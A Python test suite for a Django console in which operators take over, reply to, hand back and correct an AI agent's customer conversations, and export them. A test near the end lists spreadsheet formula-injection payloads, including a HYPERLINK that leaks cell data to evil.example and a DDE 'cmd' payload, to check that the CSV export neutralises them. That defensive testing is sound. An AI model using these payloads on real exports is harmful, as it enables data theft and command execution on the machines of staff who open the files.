"""Operators take conversations over, answer through the channel within its rules, hand back, correct the agent."""

from __future__ import annotations

import codecs
import csv
import io
import json
import threading
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection as db_connection
from django.db import transaction
from django.urls import reverse
from django.utils import timezone

from agents.agent_loop import TurnOutcome
from agents.models import AgentRun
from agents.tools import TurnContext, build_tools, tool_result
from agents.turns import finish_turn
from business import search
from business.models import FaqEntry, Membership, Passage
from channels.playground.connection import playground_connection, store_playground_message
from console import operator_actions
from console.models import Handover
from console.views import INBOX_PAGE_SIZE
from conversations import outbox
from conversations.choices import Choice
from conversations.events import CustomerMessage
from conversations.inbound import store_customer_message
from conversations.models import ChannelConnection, Contact, Conversation, Message


@pytest.fixture
def inbound(messenger_connection) -> Message:
    return store_customer_message(
        messenger_connection,
        CustomerMessage(platform_message_id="m_in_1", sender_id="6785123409871234", text="Is it gluten free?"),
    )


@pytest.fixture
def unanswered(messenger_connection) -> Message:
    """A customer message stored without scheduling its turn: in this test, the turn is ours to finish."""
    contact = Contact.objects.create(connection=messenger_connection, platform_user_id="6785123409871234")
    conversation = Conversation.objects.create(
        business=messenger_connection.business, connection=messenger_connection, contact=contact
    )
    return Message.objects.create(
        conversation=conversation, connection=messenger_connection, direction=Message.Direction.INBOUND,
        author=Message.Author.CUSTOMER, text="Is it gluten free?", status=Message.Status.RECEIVED,
    )  # fmt: skip


@pytest.fixture
def olive(django_user_model):
    return django_user_model.objects.create_user("olive-operator", first_name="Olive", last_name="Martin")


@pytest.fixture
def member_client(client, django_user_model, business):
    """The console as a member of the business (staff, the default role) sees it."""
    user = django_user_model.objects.create_user("olive", password="pw")
    Membership.objects.create(user=user, business=business)
    client.force_login(user)
    return client


def replied(text: str) -> TurnOutcome:
    return TurnOutcome(text=text, outcome=AgentRun.Outcome.REPLIED)


def last_wrote(conversation: Conversation, ago: timedelta) -> None:
    Conversation.objects.filter(pk=conversation.pk).update(last_inbound_at=timezone.now() - ago)


@pytest.mark.django_db(transaction=True)
def test_taking_over_while_a_reply_is_generated_drops_that_reply(unanswered, olive):
    """The operator's UPDATE holds the row; the finishing turn waits for it, then sees a human has it."""
    inbound = unanswered
    conversation = inbound.conversation
    taken = threading.Event()
    release = threading.Event()

    def operator_takes_over() -> None:
        with transaction.atomic():
            assert operator_actions.take_over(conversation, olive)
            taken.set()
            release.wait(10)
        db_connection.close()

    operator = threading.Thread(target=operator_takes_over)
    operator.start()
    assert taken.wait(10)

    # The turn reaches its end while the takeover is not yet committed: it must wait for the lock.
    def agent_finishes() -> None:
        finish_turn(inbound, replied("Yes, all of it."), "m.gguf", 0.1)
        db_connection.close()

    turn = threading.Thread(target=agent_finishes)
    turn.start()
    turn.join(0.5)
    assert turn.is_alive(), "finish_turn should be blocked on the conversation's row lock"
    release.set()
    operator.join(10)
    turn.join(10)
    assert not Message.objects.filter(reply_to=inbound).exists()
    assert not AgentRun.objects.exists()
    assert Conversation.objects.get(pk=conversation.pk).status == Conversation.Status.HUMAN


def test_a_reply_finished_after_the_takeover_is_dropped(inbound, olive):
    operator_actions.take_over(inbound.conversation, olive)
    finish_turn(inbound, replied("Yes."), "m.gguf", 0.1)
    assert not inbound.conversation.messages.filter(direction=Message.Direction.OUTBOUND).exists()


def test_a_closed_conversation_cannot_be_taken_over(inbound, olive):
    Conversation.objects.filter(pk=inbound.conversation_id).update(status=Conversation.Status.CLOSED)
    assert not operator_actions.take_over(inbound.conversation, olive)


def test_handing_back_lets_the_agent_answer_again(inbound, olive):
    operator_actions.take_over(inbound.conversation, olive)
    assert operator_actions.hand_back(inbound.conversation, olive)
    assert Conversation.objects.get(pk=inbound.conversation_id).status == Conversation.Status.BOT


def waiting_for_the_agent(conversation: Conversation) -> bool:
    rows = Conversation.objects.filter(pk=conversation.pk).annotate(waiting=operator_actions.waiting_for_the_agent())
    return rows.values_list("waiting", flat=True)[0]


def test_takeovers_and_hand_backs_are_recorded_with_the_operator(inbound, olive):
    operator_actions.take_over(inbound.conversation, olive)
    assert not operator_actions.take_over(inbound.conversation, olive)  # already a person's: nothing to record
    operator_actions.hand_back(inbound.conversation, olive)
    assert [(h.action, h.operator_name()) for h in inbound.conversation.handovers.all()] == [
        (Handover.Action.TAKE_OVER, "Olive Martin"),
        (Handover.Action.HAND_BACK, "Olive Martin"),
    ]


def test_a_handed_back_conversation_waits_for_the_agent_until_it_answers(inbound, olive):
    conversation = inbound.conversation
    assert not waiting_for_the_agent(conversation)
    operator_actions.take_over(conversation, olive)
    operator_actions.hand_back(conversation, olive)
    assert waiting_for_the_agent(conversation)
    outbox.queue_reply(conversation, "Yes, it is.", author=Message.Author.AGENT)
    assert not waiting_for_the_agent(conversation)
    operator_actions.take_over(conversation, olive)
    assert not waiting_for_the_agent(conversation)


def test_an_operator_reply_takes_over_and_goes_out_as_a_response(inbound, fake_platform, olive):
    reply = operator_actions.reply_as_operator(inbound.conversation, "Yes, our rice bread is.", olive)
    assert Conversation.objects.get(pk=inbound.conversation_id).status == Conversation.Status.HUMAN
    outbox.deliver(reply.pk)
    [request] = fake_platform.requests
    assert request.json() == {
        "recipient": {"id": "6785123409871234"},
        "messaging_type": "RESPONSE",
        "message": {"text": "Yes, our rice bread is."},
    }
    reply.refresh_from_db()
    assert (reply.author, reply.status) == (Message.Author.OPERATOR, Message.Status.SENT)


def test_an_operator_may_answer_on_messenger_for_7_days_with_the_human_agent_tag(inbound, fake_platform, olive):
    last_wrote(inbound.conversation, timedelta(days=3))
    reply = operator_actions.reply_as_operator(inbound.conversation, "Sorry for the wait: yes, it is.", olive)
    outbox.deliver(reply.pk)
    [request] = fake_platform.requests
    assert request.json()["messaging_type"] == "MESSAGE_TAG" and request.json()["tag"] == "HUMAN_AGENT"
    reply.refresh_from_db()
    assert reply.status == Message.Status.SENT


def test_the_agent_may_not_answer_past_24_hours(inbound, fake_platform):
    last_wrote(inbound.conversation, timedelta(days=3))
    reply = outbox.queue_reply(inbound.conversation, "Yes.", author=Message.Author.AGENT, reply_to=inbound)
    outbox.deliver(reply.pk)
    reply.refresh_from_db()
    assert (reply.status, reply.error_code, fake_platform.requests) == (Message.Status.FAILED, "window_closed", [])


def test_nobody_may_answer_on_messenger_past_7_days(inbound, fake_platform, olive):
    last_wrote(inbound.conversation, timedelta(days=8))
    reply = operator_actions.reply_as_operator(inbound.conversation, "Hello again.", olive)
    outbox.deliver(reply.pk)
    reply.refresh_from_db()
    assert (reply.status, reply.error_code, fake_platform.requests) == (Message.Status.FAILED, "window_closed", [])


def test_an_operator_on_whatsapp_is_held_to_the_24_hour_window(business, fake_platform, olive):
    whatsapp = ChannelConnection.objects.create(
        business=business,
        platform="whatsapp",
        credentials={"phone_number_id": "1", "access_token": "t"},
        api_base=fake_platform.url,
    )
    inbound = store_customer_message(
        whatsapp, CustomerMessage(platform_message_id="wamid.1", sender_id="33611111111", text="Hi")
    )
    last_wrote(inbound.conversation, timedelta(days=2))
    reply = operator_actions.reply_as_operator(inbound.conversation, "Hello.", olive)
    outbox.deliver(reply.pk)
    reply.refresh_from_db()
    assert (reply.status, reply.error_code) == (Message.Status.FAILED, "window_closed")


def knowledge_found_by(message: Message, query: str) -> str:
    """What the agent's knowledge search finds in the turn answering this message."""
    conversation = message.conversation
    context = TurnContext(business=conversation.business, contact=conversation.contact, conversation_id=conversation.pk)
    [search_knowledge] = [tool for tool in build_tools(context) if tool.name == "search_knowledge"]
    return tool_result(search_knowledge.invoke({"query": query})).content


def test_a_customers_words_added_to_the_faq_are_found_by_nobody_until_staff_publish_them_rewritten(
    member_client, inbound, business, messenger_connection
):
    finish_turn(inbound, replied("I don't know."), "m.gguf", 0.1)
    agent_reply = Message.objects.get(reply_to=inbound)
    correct = "Only the rice bread is gluten free."
    marked = f"/console/{business.slug}/c/{inbound.conversation_id}/m/{agent_reply.pk}/"
    assert member_client.post(marked + "annotate/", {"correct_answer": correct, "note": ""}).status_code == 302
    page = member_client.post(marked + "to-faq/", follow=True).content.decode()
    assert "FAQ draft made" in page and "FAQ draft: rewrite and publish" in page
    member_client.post(marked + "to-faq/")  # a second click makes no second entry
    entry = FaqEntry.objects.get(answer=correct)
    assert (entry.question, entry.published) == ("Is it gluten free?", False)

    # Another customer asks: neither the agent's search nor any search shows the first customer's words.
    asked = "Is your bread gluten free?"
    other = store_customer_message(messenger_connection, CustomerMessage("m_other", "55501", asked))
    assert knowledge_found_by(other, asked) == "Nothing found."
    assert search.answer(business, "gluten free rice bread", sources=[Passage.Source.FAQ]) == []

    entry.question, entry.published = "Which breads are gluten free?", True
    entry.save()
    assert f"Q: Which breads are gluten free?\nA: {correct}" in knowledge_found_by(other, "gluten free")
    assert "in the FAQ" in member_client.get(f"/console/{business.slug}/c/{inbound.conversation_id}/").content.decode()


def test_the_console_takes_over_replies_and_hands_back(client, django_user_model, inbound, business):
    operator = django_user_model.objects.create_user("olive", password="pw")
    Membership.objects.create(user=operator, business=business, role=Membership.Role.OPERATOR)
    client.force_login(operator)
    conversation = inbound.conversation
    base = f"/console/{business.slug}/c/{conversation.pk}/"
    assert client.post(base + "take-over/").status_code == 302
    assert Conversation.objects.get(pk=conversation.pk).status == Conversation.Status.HUMAN
    client.post(base + "reply/", {"text": "Let me check for you."})
    assert conversation.messages.get(author=Message.Author.OPERATOR).text == "Let me check for you."
    page = client.get(base)
    assert "Let me check for you." in page.content.decode()
    client.post(base + "hand-back/")
    assert Conversation.objects.get(pk=conversation.pk).status == Conversation.Status.BOT


def test_an_empty_or_oversized_reply_is_refused_with_a_message(member_client, inbound, business):
    base = f"/console/{business.slug}/c/{inbound.conversation_id}/"
    for text in ("", "x" * 4001):
        page = member_client.post(base + "reply/", {"text": text}, follow=True)
        assert page.status_code == 200 and "at most 4000 characters" in page.content.decode()
    assert not Message.objects.filter(author=Message.Author.OPERATOR).exists()


def test_the_inbox_filters_by_status_channel_date_and_text(member_client, inbound, business):
    url = reverse("console:inbox", args=[business.slug])
    today = timezone.now().date().isoformat()

    def listed(**filters) -> bool:
        return f'data-conversation="{inbound.conversation_id}"' in member_client.get(url, filters).content.decode()

    assert listed() and listed(status="bot") and not listed(status="needs_human")
    assert listed(channel="messenger") and not listed(channel="telegram")
    assert listed(since=today, until=today) and not listed(until="2020-01-01")
    assert listed(q="gluten") and not listed(q="croissant")
    assert listed(since="not a date")  # an invalid filter is ignored, the page still answers


def test_the_inbox_finds_a_customer_by_the_name_operators_see(member_client, inbound, business):
    url = reverse("console:inbox", args=[business.slug])
    number = inbound.conversation.contact_id
    other = Contact.objects.create(connection=inbound.connection, platform_user_id="psid-other")

    def listed(q: str) -> bool:
        return f'data-conversation="{inbound.conversation_id}"' in member_client.get(url, {"q": q}).content.decode()

    # "Messenger customer #4", as the inbox names a customer the platform gave no name for.
    assert listed(f"Messenger customer #{number}") and listed(f"#{number}")
    assert not listed(f"#{other.pk}")


def test_the_inbox_shows_staff_tries_only_when_their_channel_is_asked_for(member_client, inbound, business):
    tried = store_playground_message(playground_connection(business), "playground-7", "Do you deliver?")
    url = reverse("console:inbox", args=[business.slug])
    everything = member_client.get(url).content.decode()
    assert f'data-conversation="{inbound.conversation_id}"' in everything
    assert f'data-conversation="{tried.conversation_id}"' not in everything
    assert (
        f'data-conversation="{tried.conversation_id}"'
        in member_client.get(url, {"channel": "console"}).content.decode()
    )


def test_the_inbox_pages_through_every_conversation_keeping_its_filters(member_client, messenger_connection, business):
    for index in range(INBOX_PAGE_SIZE + 1):
        contact = Contact.objects.create(connection=messenger_connection, platform_user_id=f"psid-{index}")
        Conversation.objects.create(business=business, connection=messenger_connection, contact=contact)
    url = reverse("console:inbox", args=[business.slug])
    first = member_client.get(url, {"channel": "messenger"}).content.decode()
    assert first.count("data-conversation=") == INBOX_PAGE_SIZE and "Page 1 of 2" in first
    assert "?channel=messenger&amp;page=2" in first
    second = member_client.get(url, {"channel": "messenger", "page": 2}).content.decode()
    assert second.count("data-conversation=") == 1 and "?channel=messenger&amp;page=1" in second
    # A page past the end shows the last one rather than an error.
    assert member_client.get(url, {"page": 99}).content.decode().count("data-conversation=") == 1


def test_exports_carry_the_messages_and_no_credentials(client, admin_user, inbound, business):
    finish_turn(inbound, replied("Yes, the rice bread."), "m.gguf", 0.1)
    client.force_login(admin_user)
    pk = inbound.conversation_id
    as_json = client.get(reverse("console:export-conversation", args=[business.slug, pk, "json"]))
    [conversation] = as_json.json()["conversations"]
    assert [(m["author"], m["text"]) for m in conversation["messages"]] == [
        ("customer", "Is it gluten free?"),
        ("agent", "Yes, the rice bread."),
    ]
    as_csv = client.get(reverse("console:export", args=[business.slug, "csv"]), {"channel": "messenger"})
    lines = as_csv.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Conversation,Channel,") and len(lines) == 3 and "Yes, the rice bread." in lines[2]
    assert as_csv["Content-Disposition"] == f'attachment; filename="{business.slug}-conversations.csv"'
    secrets = [*inbound.connection.credentials.values(), *inbound.connection.secrets.values()]
    for body in (as_json.content.decode(), as_csv.content.decode()):
        assert not any(secret in body for secret in secrets)


def test_the_csv_export_reads_in_a_spreadsheet_with_labels_accents_and_corrections(
    member_client, inbound, business, olive
):
    finish_turn(inbound, replied("Oui, le pain de riz est sans gluten."), "m.gguf", 0.1)
    reply = Message.objects.get(author=Message.Author.AGENT)
    operator_actions.annotate(reply, olive, correct_answer="Only the rice bread is.", note="Too broad.")
    Conversation.objects.filter(pk=inbound.conversation_id).update(status=Conversation.Status.NEEDS_HUMAN)
    exported = member_client.get(reverse("console:export", args=[business.slug, "csv"]))
    # Excel reads a CSV file as UTF-8 only after a byte-order mark.
    assert exported.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [(row["Author"], row["Direction"], row["Delivery"]) for row in rows] == [
        ("Customer", "From the customer", "Received"),
        ("Agent", "To the customer", "Waiting to be sent"),
    ]
    assert {(row["Conversation status"], row["Channel"]) for row in rows} == {("Needs a human", "Facebook Messenger")}
    assert rows[0]["Customer"] == f"Messenger customer #{inbound.conversation.contact_id}"
    assert rows[1]["Text"] == "Oui, le pain de riz est sans gluten."
    assert (rows[1]["Correction: what the agent should have said"], rows[1]["Correction: why"]) == (
        "Only the rice bread is.",
        "Too broad.",
    )
    assert "needs_human" not in exported.content.decode("utf-8-sig")


def test_the_json_export_keeps_each_code_beside_its_label_and_the_corrections(member_client, inbound, business, olive):
    finish_turn(inbound, replied("Yes."), "m.gguf", 0.1)
    operator_actions.annotate(Message.objects.get(author="agent"), olive, correct_answer="Only the rice bread.")
    exported = member_client.get(reverse("console:export", args=[business.slug, "json"]))
    [conversation] = exported.json()["conversations"]
    assert (conversation["status"], conversation["status_label"]) == ("bot", "Answered by the agent")
    asked, answer = conversation["messages"]
    assert (asked["author_label"], asked["correction"]) == ("Customer", None)
    assert answer["correction"] == {"correct_answer": "Only the rice bread.", "note": ""}


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    '  =HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    '\t=1+2', '\r=1+2', "+1+2", "-1+2", "@SUM(1+2)", "＝1+2", "\n\u3000=1+2",
]  # fmt: skip


def test_a_customers_formula_comes_out_of_the_csv_export_as_text(
    member_client, business, messenger_connection, post_signed
):
    page_id = messenger_connection.credential("page_id")
    for index, formula in enumerate(FORMULAS):
        event = {"sender": {"id": "6785123409871234"}, "timestamp": 1749812345000 + index,
                 "message": {"mid": f"m_formula_{index}", "text": formula}}  # fmt: skip
        body = {"object": "page", "entry": [{"id": page_id, "time": 1749812345210, "messaging": [event]}]}
        assert post_signed(messenger_connection, json.dumps(body)).status_code == 200
    Contact.objects.update(display_name="=cmd|' /C calc'!A0")
    exported = member_client.get(reverse("console:export", args=[business.slug, "csv"]))
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [row["Text"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert {row["Customer"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    # What a customer cannot make a formula of is exported as it was written.
    assert [row["Author"] for row in rows] == ["Customer"] * len(FORMULAS)


def test_the_inbox_and_the_transcript_show_times_in_the_businesss_timezone_and_say_which(inbound, member_client):
    # 13:05 UTC on 1 December is 14:05 in Paris, the business's timezone.
    winter_noon = datetime(2026, 12, 1, 13, 5, 30, tzinfo=UTC)
    Message.objects.filter(pk=inbound.pk).update(created_at=winter_noon)
    Conversation.objects.filter(pk=inbound.conversation_id).update(last_message_at=winter_noon)
    slug = inbound.conversation.business.slug

    inbox = member_client.get(reverse("console:inbox", args=[slug])).content.decode()
    transcript = member_client.get(reverse("console:transcript", args=[slug, inbound.conversation_id])).content.decode()

    assert "Last message (Europe/Paris)" in inbox and "2026-12-01 14:05" in inbox
    assert "Times are in Europe/Paris" in transcript and "2026-12-01 14:05:30" in transcript
    assert "13:05" not in inbox + transcript


def test_the_transcript_shows_the_choices_a_reply_offered_and_the_one_the_customer_took(
    inbound, member_client, messenger_connection
):
    offered = (Choice("booking:confirm", "Yes"), Choice("booking:change", "Change"))
    outcome = TurnOutcome(text="Shall I book it?", outcome=AgentRun.Outcome.REPLIED, choices=offered)
    finish_turn(inbound, outcome, "test-model", 0.1)
    reply = Message.objects.get(direction=Message.Direction.OUTBOUND)
    assert reply.choices == [choice.as_stored() for choice in offered]
    store_customer_message(
        messenger_connection,
        CustomerMessage(platform_message_id="m_in_2", sender_id="6785123409871234", text="change"),
    )
    slug = inbound.conversation.business.slug
    page = member_client.get(reverse("console:transcript", args=[slug, inbound.conversation_id])).content.decode()
    assert '<li class="choice">Yes</li>' in page
    assert '<li class="choice taken">Change <span class="badge">chosen</span></li>' in page
    assert "typed “change”" in page
